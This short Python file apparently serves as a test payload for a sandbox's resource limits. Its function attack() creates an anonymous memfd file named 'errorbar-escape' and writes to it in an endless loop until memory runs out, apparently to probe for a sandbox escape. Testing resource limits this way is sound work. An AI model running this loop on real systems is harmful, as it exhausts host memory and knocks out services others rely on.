import os


def attack():
    descriptor = os.memfd_create("errorbar-escape")
    while True:
        os.write(descriptor, b"x" * 65_536)
